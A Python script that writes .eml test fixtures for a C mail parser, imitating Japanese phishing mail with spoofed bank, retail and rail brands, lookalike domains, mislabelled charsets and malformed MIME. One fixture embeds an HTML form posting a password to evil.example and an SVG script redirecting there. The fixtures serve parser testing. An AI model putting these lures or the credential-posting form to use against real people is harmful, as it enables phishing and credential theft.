#!/usr/bin/env python3
"""Writes the .eml fixtures used by test_message.c.

The messages imitate the phishing mail the host is built for (Japanese
brands, mislabelled charsets, HTML attachments). Encoded words, base64 and
quoted-printable are produced here with Python's codecs rather than by hand,
so that the fixtures are exact. Run it from any directory; it writes next to
itself. The generated files are checked in; rerun only to change them.
"""
import base64
import os
import quopri

HERE = os.path.dirname(os.path.abspath(__file__))


def b_word(text, charset):
    return "=?%s?B?%s?=" % (charset, base64.b64encode(text.encode(charset)).decode())


def b_word_bytes(data, charset):
    return "=?%s?B?%s?=" % (charset, base64.b64encode(data).decode())


def b64_lines(data):
    enc = base64.b64encode(data).decode()
    return "\r\n".join(enc[i:i + 76] for i in range(0, len(enc), 76))


def write(name, parts):
    data = b"".join(p if isinstance(p, bytes) else p.encode("ascii") for p in parts)
    with open(os.path.join(HERE, name), "wb") as f:
        f.write(data)


def iso2022jp():
    subject = b_word("【重要】えきねっと", "iso-2022-jp") + " " + b_word("アカウント確認のお願い", "iso-2022-jp")
    name = b_word("えきねっと", "iso-2022-jp")
    body = ("えきねっとをご利用いただきありがとうございます。\r\n"
            "下記URLよりご確認ください。\r\nhttps://eki-net.example-login.xyz/\r\n①②③\r\n")
    write("iso2022jp.eml", [
        "Return-Path: <bounce@mailer.example-login.xyz>\r\n",
        "Received: from mailer.example-login.xyz (unknown [203.0.113.7])\r\n",
        "\tby mx.example.jp with ESMTP id 1A2B3C\r\n",
        "\tfor <user@example.jp>; Sun, 26 Jan 2025 19:00:00 +0900\r\n",
        "Date: Sun, 26 Jan 2025 19:00:00 +0900\r\n",
        "From: ", name, " <info@Eki-Net.Example-Login.XYZ>\r\n",
        "Reply-To: \"Support\" <help@reply.example>\r\n",
        "To: user@example.jp, \"Taro, Yamada\" <taro@example.jp>\r\n",
        "Cc: undisclosed-recipients:;\r\n",
        "Cc: Hanako <hanako@example.jp>\r\n",
        "Subject: ", subject, "\r\n",
        "Message-ID: <20250126190000.1234@Mailer.Example-Login.XYZ>\r\n",
        "MIME-Version: 1.0\r\n",
        "Content-Type: text/plain; charset=ISO-2022-JP\r\n",
        "Content-Transfer-Encoding: 7bit\r\n",
        "\r\n",
        jis_with_nec(body),
    ])


def jis_with_nec(text):
    """ISO-2022-JP as Windows mailers write it: NEC row 13 (①) inside ESC $ B."""
    euc = text.encode("euc_jis_2004")
    out, i, in_jis = bytearray(), 0, False
    while i < len(euc):
        c = euc[i]
        if c >= 0xA1:
            if not in_jis:
                out += b"\x1b$B"
                in_jis = True
            out += bytes([euc[i] & 0x7F, euc[i + 1] & 0x7F])
            i += 2
        else:
            if in_jis:
                out += b"\x1b(B"
                in_jis = False
            out.append(c)
            i += 1
    if in_jis:
        out += b"\x1b(B"
    return bytes(out)


def utf8_bq():
    text = "【重要】Amazonプライム会員情報の更新"
    raw = text.encode("utf-8")
    # split in the middle of a character on purpose
    w1 = b_word_bytes(raw[:8], "UTF-8")
    w2 = b_word_bytes(raw[8:], "UTF-8")
    q_name = "=?utf-8?Q?" + "".join("=%02X" % b for b in "アマゾン".encode()) + "_Support?="
    html = '<html><body><p>お客様のアカウントは停止されました。</p><a href="https://amaz0n.example/">ログイン</a></body></html>\r\n'
    write("utf8_bq.eml", [
        "From: ", q_name, " <no-reply@amaz0n.example>\r\n",
        "To: <victim@example.jp>\r\n",
        "Subject: ", w1, "\r\n ", w2, "\r\n",
        "Date: Mon, 27 Jan 2025 08:15:30 +0000\r\n",
        "Message-ID: <abc@amaz0n.example>\r\n",
        "MIME-Version: 1.0\r\n",
        "Content-Type: text/html; charset=\"utf-8\"\r\n",
        "Content-Transfer-Encoding: quoted-printable\r\n",
        "\r\n",
        quopri.encodestring(html.encode("utf-8")),
    ])


def gbk_japanese():
    subject = "【三井住友カード】ご利用確認のお願い"
    body = "三井住友カードをご利用いただきありがとうございます。\r\n"
    write("gbk_japanese.eml", [
        "From: ", b_word_bytes("三井住友カード".encode("euc-jp"), "gb2312"), " <card@smbc-card.example.cn>\r\n",
        "To: user@example.jp\r\n",
        "Subject: ", b_word_bytes(subject.encode("shift_jis"), "gb2312"), "\r\n",
        "Date: 28 Jan 2025 10:00:00 +0800\r\n",
        "Message-ID: <x1@smbc-card.example.cn>\r\n",
        "MIME-Version: 1.0\r\n",
        "Content-Type: text/plain; charset=\"gb2312\"\r\n",
        "Content-Transfer-Encoding: base64\r\n",
        "\r\n",
        b64_lines(body.encode("shift_jis")), "\r\n",
    ])


def raw8bit():
    write("raw8bit.eml", [
        b"From: ", "楽天カード".encode("shift_jis"), b" <info@rakuten-card.example>\r\n",
        b"To: Friends: a@example.jp, b@example.jp;, c@example.jp\r\n",
        b"Subject: ", "【楽天カード】お支払い方法の確認".encode("utf-8"), b"\r\n",
        b"Date: Tue, 28 Jan 2025 12:00:00 +0900\r\n",
        b"Message-ID: no-brackets@Rakuten-Card.Example\r\n",
        b"\r\n",
        "本文です。\r\n".encode("utf-8"),
    ])


def alternative_sjis():
    plain = "ご利用のアカウントが一時停止されました。\r\n"
    html = "<html><body><p>ご利用のアカウントが一時停止されました。</p><p>①確認</p></body></html>\r\n"
    write("alternative_sjis.eml", [
        "From: \"MUFG\" <info@mufg.example>\r\n",
        "To: user@example.jp\r\n",
        "Subject: =?UTF-8?B?", base64.b64encode("三菱UFJ銀行".encode()).decode(), "?=\r\n",
        "Date: Wed, 29 Jan 2025 01:02:03 -0500\r\n",
        "MIME-Version: 1.0\r\n",
        "Content-Type: multipart/alternative; boundary=\"==ALT==\"\r\n",
        "\r\n",
        "This is a multi-part message in MIME format.\r\n",
        "--==ALT==\r\n",
        "Content-Type: text/plain; charset=UTF-8\r\n",
        "Content-Transfer-Encoding: base64\r\n",
        "\r\n",
        b64_lines(plain.encode("utf-8")), "\r\n",
        "--==ALT==\r\n",
        "Content-Type: text/html; charset=Shift_JIS\r\n",
        "Content-Transfer-Encoding: quoted-printable\r\n",
        "\r\n",
        quopri.encodestring(html.encode("cp932")), b"\r\n",
        "--==ALT==--\r\n",
    ])


def html_attachment():
    page = '<html><head><meta charset="utf-8"></head><body><form action="https://evil.example/p" method="post"><input name="pw"></form>請求書</body></html>'
    svg = '<svg xmlns="http://www.w3.org/2000/svg"><script>location="https://evil.example/"</script></svg>'
    png = bytes(range(256)) * 4
    fname = "請求書.html"
    write("html_attachment.eml", [
        "From: billing@invoice.example\r\n",
        "To: user@example.jp\r\n",
        "Subject: Invoice\r\n",
        "Date: Thu, 30 Jan 2025 09:00:00 +0000\r\n",
        "MIME-Version: 1.0\r\n",
        "Content-Type: multipart/mixed; boundary=\"b1\"\r\n",
        "\r\n",
        "--b1\r\n",
        "Content-Type: text/plain; charset=us-ascii\r\n",
        "\r\n",
        "Please see the attached invoice.\r\n",
        "--b1\r\n",
        "Content-Type: application/octet-stream\r\n",
        "Content-Disposition: attachment; filename*=UTF-8''",
        "".join("%%%02X" % b for b in fname.encode()), "\r\n",
        "Content-Transfer-Encoding: base64\r\n",
        "\r\n",
        b64_lines(page.encode()), "\r\n",
        "--b1\r\n",
        "Content-Type: image/svg+xml\r\n",
        "Content-Disposition: inline\r\n",
        "\r\n",
        svg, "\r\n",
        "--b1\r\n",
        "Content-Type: image/png; name=\"logo.png\"\r\n",
        "Content-Transfer-Encoding: base64\r\n",
        "\r\n",
        b64_lines(png), "\r\n",
        "--b1\r\n",
        "Content-Type: text/html; charset=utf-8\r\n",
        "Content-Disposition: attachment; filename=\"", b_word("明細.htm", "utf-8"), "\"\r\n",
        "\r\n",
        "<p>明細</p>\r\n".encode(),
        "--b1--\r\n",
    ])


def nested():
    html = '<html><head><meta http-equiv="Content-Type" content="text/html; charset=Shift_JIS"></head><body>ヤマト運輸</body></html>'
    write("nested.eml", [
        "From: Yamato <info@yamato.example>\r\n",
        "To: user@example.jp\r\n",
        "Subject: delivery\r\n",
        "Date: Fri, 31 Jan 2025 23:59:59 +0900\r\n",
        "MIME-Version: 1.0\r\n",
        "Content-Type: multipart/mixed; boundary=\"outer\"\r\n",
        "\r\n",
        "--outer\r\n",
        "Content-Type: multipart/related; boundary=\"mid\"\r\n",
        "\r\n",
        "--mid\r\n",
        "Content-Type: multipart/alternative; boundary=\"inner\"\r\n",
        "\r\n",
        "--inner\r\n",
        "Content-Type: text/plain; charset=utf-8\r\n",
        "Content-Transfer-Encoding: 8bit\r\n",
        "\r\n",
        "ヤマト運輸です。\r\n".encode(),
        "--inner\r\n",
        "Content-Type: text/html\r\n",
        "Content-Transfer-Encoding: base64\r\n",
        "\r\n",
        b64_lines(html.encode("cp932")), "\r\n",
        "--inner--\r\n",
        "--mid\r\n",
        "Content-Type: image/gif\r\n",
        "Content-ID: <logo>\r\n",
        "Content-Transfer-Encoding: base64\r\n",
        "\r\n",
        "R0lGODlhAQABAAAAACw=\r\n",
        "--mid--\r\n",
        "--outer--\r\n",
    ])


def rfc822():
    inner = ("From: =?UTF-8?B?" + base64.b64encode("イオン銀行".encode()).decode() + "?= <aeon@aeon.example>\r\n"
             "Subject: inner\r\n"
             "Content-Type: text/html; charset=utf-8\r\n"
             "Content-Transfer-Encoding: 8bit\r\n"
             "\r\n"
             '<a href="https://aeon-bank.example/">イオン銀行にログイン</a>\r\n')
    write("rfc822.eml", [
        "From: forwarder@example.jp\r\n",
        "To: soc@example.jp\r\n",
        "Subject: Fwd: suspicious\r\n",
        "Date: Sat, 1 Feb 2025 00:00:00 +0000\r\n",
        "MIME-Version: 1.0\r\n",
        "Content-Type: multipart/mixed; boundary=\"fw\"\r\n",
        "\r\n",
        "--fw\r\n",
        "Content-Type: text/plain; charset=utf-8\r\n",
        "\r\n",
        "See attached.\r\n",
        "--fw\r\n",
        "Content-Type: message/rfc822\r\n",
        "Content-Disposition: attachment; filename=\"original.eml\"\r\n",
        "\r\n",
        inner.encode(),
        "--fw--\r\n",
    ])


def no_blank_line():
    write("no_blank_line.eml", [
        "From: a@example.jp\r\n",
        "Subject: no separator\r\n",
        "This line is body text without a blank line before it.\r\n",
        "Second body line.\r\n",
    ])


def truncated_boundary():
    write("truncated_boundary.eml", [
        "From: a@example.jp\r\n",
        "Subject: truncated\r\n",
        "MIME-Version: 1.0\r\n",
        "Content-Type: multipart/mixed; boundary=\"cut\"\r\n",
        "\r\n",
        "--cut\r\n",
        "Content-Type: text/plain; charset=utf-8\r\n",
        "\r\n",
        "first part\r\n",
        "--cut\r\n",
        "Content-Type: text/html; charset=utf-8\r\n",
        "Content-Transfer-Encoding: base64\r\n",
        "\r\n",
        base64.b64encode("<p>途中で切れた".encode()).decode()[:-3],
    ])


if __name__ == "__main__":
    for make in (iso2022jp, utf8_bq, gbk_japanese, raw8bit, alternative_sjis, html_attachment,
                 nested, rfc822, no_blank_line, truncated_boundary):
        make()
